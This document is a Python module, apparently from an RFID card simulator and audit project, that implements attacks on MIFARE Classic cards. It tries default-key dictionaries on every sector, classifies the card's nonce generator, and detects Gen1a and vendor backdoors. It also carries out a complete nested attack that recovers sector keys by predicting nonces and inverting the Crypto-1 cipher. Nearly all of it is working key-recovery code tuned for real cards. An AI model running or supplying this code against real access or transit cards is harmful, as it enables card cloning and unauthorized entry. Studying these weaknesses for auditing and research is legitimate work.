"""Attacks and probes on MIFARE Classic cards through the card interface only (frames, as a reader sees them).

- dictionary: try the public default keys on every sector;
- PRNG class from collected nonces (weak 16-bit LFSR, hardened, static);
- magic (Gen1a 40/43 backdoor) and vendor backdoor key (FM11RF08S-like) detection;
- nested: from one known sector key of a weak-PRNG card, recover other sectors' keys by predicting the tag
  nonce of a nested authentication and inverting Crypto-1 on its keystream.
"""

from __future__ import annotations

import enum
import statistics
from collections.abc import Container, Iterable, Iterator
from typing import Final

import numpy as np

from audit.crypto1_recovery import lfsr_recovery32
from cardsim.crypto1 import Crypto1, bebit, encrypt_bytes, is_weak_nonce, odd_parity, prng_successor
from cardsim.mifare import ACK, BACKDOOR_KEY, Frame, M1Command
from terminals.m1 import FrameSlot, M1Chip, M1Error, M1Link, M1Reader, M1Slot, with_crc

# The head of the public default-key dictionary (proxmark3 / libnfc lists).
DEFAULT_KEYS = (
    0xFFFFFFFFFFFF,
    0xA0A1A2A3A4A5,
    0xD3F7D3F7D3F7,
    0x000000000000,
    0xB0B1B2B3B4B5,
    0x4D3A99C351DD,
    0x1A982C7E459A,
    0xAABBCCDDEEFF,
    0x714C5C886E97,
    0x587EE5F9350F,
    0xA0478CC39091,
    0x533CB6C723F6,
    0x8FD0A4F256E9,
)


class PrngClass(enum.Enum):
    """How a card's tag nonces behave."""

    WEAK = "weak"
    HARDENED = "hardened"
    STATIC = "static"


class AttackFailed(Exception):
    """The attack cannot work on this card (e.g. hardened PRNG) or found no key."""


def try_key(slot: M1Slot, block: int, key: int, key_type: int) -> bool:
    """One fresh authentication attempt (any reader: Part 3 readers offer key types 60 and 61 only). A card
    that left, or a reader that failed (M1Gone), is raised, not taken for a wrong key."""
    try:
        slot.session().authenticate(block, key, key_type)
    except M1Error:
        return False
    return True


def dictionary_attack(
    slot: M1Slot, keys: Iterable[int] = DEFAULT_KEYS, sectors: Iterable[int] = range(16)
) -> dict[tuple[int, int], int]:
    """(sector, 0x60|0x61) -> key for every sector key found in ``keys``."""
    return dict(dictionary_hits(slot, keys, sectors))


def dictionary_hits(
    slot: M1Slot, keys: Iterable[int], sectors: Iterable[int] = range(16), skip: Container[tuple[int, int]] = ()
) -> Iterator[tuple[tuple[int, int], int]]:
    """Each (sector, 0x60|0x61) and the key of ``keys`` that opens it, as soon as it is found (a caller keeps
    what fell even if the card leaves later); slots in ``skip`` are not tried."""
    candidates = list(keys)
    for sector in sectors:
        for key_type in (0x60, 0x61):
            if (sector, key_type) in skip:
                continue
            for key in candidates:
                if try_key(slot, sector * 4 + 3, key, key_type):
                    yield (sector, key_type), key
                    break


def collect_nonces(link: M1Link, count: int, block: int = 3) -> list[int]:
    """Tag nonces of ``count`` plain authentication requests in one field, each abandoned unanswered."""
    nonces = []
    link.power_on()
    for _ in range(count):
        answer = link.transceive(Frame(with_crc(link, bytes([0x60, block]))))
        if answer is None or len(answer.data) != 4:
            raise AttackFailed("the card does not answer authentication requests")
        nonces.append(int.from_bytes(answer.data))
        link.transceive(Frame(b""))  # no reader answer: the card drops the authentication
    return nonces


def classify_prng(nonces: list[int]) -> PrngClass:
    """Static when every nonce is the same; weak when all follow the 16-bit LFSR; hardened otherwise."""
    if len(set(nonces)) == 1 and len(nonces) > 1:
        return PrngClass.STATIC
    if all(is_weak_nonce(n) for n in nonces):
        return PrngClass.WEAK
    return PrngClass.HARDENED


def has_gen1a_backdoor(link: M1Link) -> bool:
    """True when the card acknowledges the Gen1a unlock as libnfc sends it: HLTA, 40 as a 7-bit short frame, then
    43 as a whole byte with its parity bit, each answered by a 4-bit ACK (Gen1a magic)."""
    link.power_on()
    # HLTA first, as libnfc does (a Gen1a answers 40 even halted); the card answers nothing to it
    link.transceive(Frame(with_crc(link, bytes([M1Command.HALT, 0x00]))))
    first = link.transceive(Frame(b"\x40", bits=7))
    second = link.transceive(Frame(b"\x43")) if first is not None else None
    link.power_on()
    return all(f is not None and f.bits == 4 and f.data[0] == ACK for f in (first, second))


def accepts_backdoor_key(chip: M1Chip, block: int = 3) -> bool:
    """True when the FM11RF08S-like vendor key opens the sector through auth command 64 (raw frames only)."""
    return try_key(FrameSlot(chip), block, BACKDOOR_KEY, 0x64)


def nonce_distance(start: int, end: int, limit: int = 65536) -> int | None:
    """The PRNG steps from nonce ``start`` to nonce ``end`` (None when ``end`` is not within ``limit`` steps)."""
    x = start
    for n in range(limit):
        if x == end:
            return n
        x = prng_successor(x, 1)
    return None


# Nonce distance: the median of several measurements, and a window around it wide enough for a real card, whose
# distance varies with the reader's timing by far more than the emulator's 0..3 steps (mfoc: tolerance 20).
CALIBRATIONS: Final = 5
NESTED_WINDOW: Final = 20


def _calibrate(link: M1Link, uid: int, block: int, key: int, key_type: int) -> int:
    """The PRNG steps between a plain and a nested nonce on the sector whose key is known (median)."""
    distances = []
    for _ in range(CALIBRATIONS):
        link.power_on()
        reader = M1Reader(link, uid)
        reader.authenticate(block, key, key_type)
        first = reader.last_nt
        reader.authenticate(block, key, key_type)
        distance = nonce_distance(first, reader.last_nt)
        if distance is not None:
            distances.append(distance)
    if not distances:
        raise AttackFailed("could not measure the nonce distance")
    return int(statistics.median_low(distances))


_NestedNonce = tuple[int, int, tuple[int, ...]]  # plain nT of the known sector, {nT} of the target, its parities


def nested_request(link: M1Link, reader: M1Reader, target: tuple[int, int]) -> tuple[int, tuple[int, ...]]:
    """Inside the reader's authenticated session, request an authentication to ``target`` = (block, command):
    the nonce the card sends encrypted, and its four encrypted parity bits (the reader does not go on)."""
    assert reader.cipher is not None
    enc, parities = encrypt_bytes(reader.cipher, with_crc(link, bytes([target[1], target[0]])))
    answer = link.transceive(Frame(enc, tuple(parities)))
    if answer is None or len(answer.data) != 4 or len(answer.parity) != 4:
        raise AttackFailed(f"no encrypted nonce for a nested AUTH {target[1]:02X} {target[0]}")
    return int.from_bytes(answer.data), answer.parity


def _nested_nonce(link: M1Link, uid: int, block: int, key: int, key_type: int, target: tuple[int, int]) -> _NestedNonce:
    """Authenticate with the known key, then request the target: (plain nT of the first, {nT}, parities)."""
    link.power_on()
    reader = M1Reader(link, uid)
    reader.authenticate(block, key, key_type)
    return reader.last_nt, *nested_request(link, reader, target)


def key_states(uid: int, nt: int, enc_nt: int, parities: tuple[int, ...]) -> Crypto1 | None:
    """Cipher states loaded with each key under which a nested authentication to a card ``uid`` sends nonce
    ``nt`` as ``enc_nt`` with encrypted ``parities`` (None when the parity bits show ``nt`` is not the nonce
    sent, which spares the state recovery 7 times in 8).

    The first three parity bits are encrypted with keystream bits inside the 32 recovered, so they only check
    the guess of ``nt``; the fourth, encrypted with the next bit, halves the recovered states.
    """
    ks = enc_nt ^ nt
    plain = nt.to_bytes(4)
    if len(parities) != 4 or any(parities[i] ^ odd_parity(plain[i]) != bebit(ks, 8 * (i + 1)) for i in range(3)):
        return None
    states = lfsr_recovery32(ks, nt ^ uid)
    keep = states.peek() == parities[3] ^ odd_parity(plain[3])
    states = Crypto1(states.odd[keep], states.even[keep])
    states.rollback_word(nt ^ uid)
    return states


def _explaining(states: Crypto1, uid: int, nonce: _NestedNonce, guesses: np.ndarray) -> Crypto1:
    """The key states under which the nested nonce ``nonce`` decrypts to one of ``guesses``."""
    cipher = states.copy()
    plain = cipher.word(uid ^ nonce[1], encrypted=True) ^ nonce[1]
    keep = np.isin(plain, guesses)
    return Crypto1(states.odd[keep], states.even[keep])


def nested_attack(
    link: M1Chip,
    uid: int,
    known: tuple[int, int, int],
    target: tuple[int, int],
    window: int = NESTED_WINDOW,
    attempts: int = 4,
) -> int:
    """Recover the key of ``target`` = (block, key type) from ``known`` = (block, key, key type).

    Needs a weak PRNG. The distance between a plain and a nested nonce is measured on the known sector (median
    of several); then ``attempts`` nested authentications to the target are recorded. For the first, each nonce
    within ``window`` steps of that distance is a guess, nearest first: the three parity bits inside the nonce
    rule most guesses out, and each one left gives a keystream that is inverted (lfsr_recovery32) and rolled back
    to key candidates. The other nested nonces must decrypt, under a candidate key, to a nonce within the window
    of their own plain nonce, which leaves the true key alone; it is checked by authenticating.
    """
    known_block, known_key, known_type = known
    nonces = collect_nonces(link, 3, known_block)
    if classify_prng(nonces) is not PrngClass.WEAK:
        raise AttackFailed("nested attack needs a weak PRNG; this card's nonces are not predictable")
    distance = _calibrate(link, uid, known_block, known_key, known_type)
    steps = sorted(range(max(0, distance - window), distance + window + 1), key=lambda n: abs(n - distance))

    samples: list[_NestedNonce] = []
    for _ in range(attempts * 8):
        if len(samples) == attempts:
            break
        sample = _nested_nonce(link, uid, known_block, known_key, known_type, target)
        if all(sample[:2] != seen[:2] for seen in samples):  # the same nonces again (PRNG restarted) tell nothing
            samples.append(sample)
    first, checks = samples[0], samples[1:]
    windows = [np.array([prng_successor(check[0], n) for n in steps], dtype=np.uint64) for check in checks]
    candidates = 0
    for n in steps:
        states = key_states(uid, prng_successor(first[0], n), first[1], first[2])
        if states is None:
            continue
        for check, guesses in zip(checks, windows, strict=True):
            states = _explaining(states, uid, check, guesses)
        keys = np.unique(states.lfsr())
        candidates += len(keys)
        for key in keys[:64]:
            if try_key(FrameSlot(link), target[0], int(key), target[1]):
                return int(key)
    if not candidates:
        raise AttackFailed("no key candidate survived")
    raise AttackFailed(f"{candidates} candidates left, none authenticates")
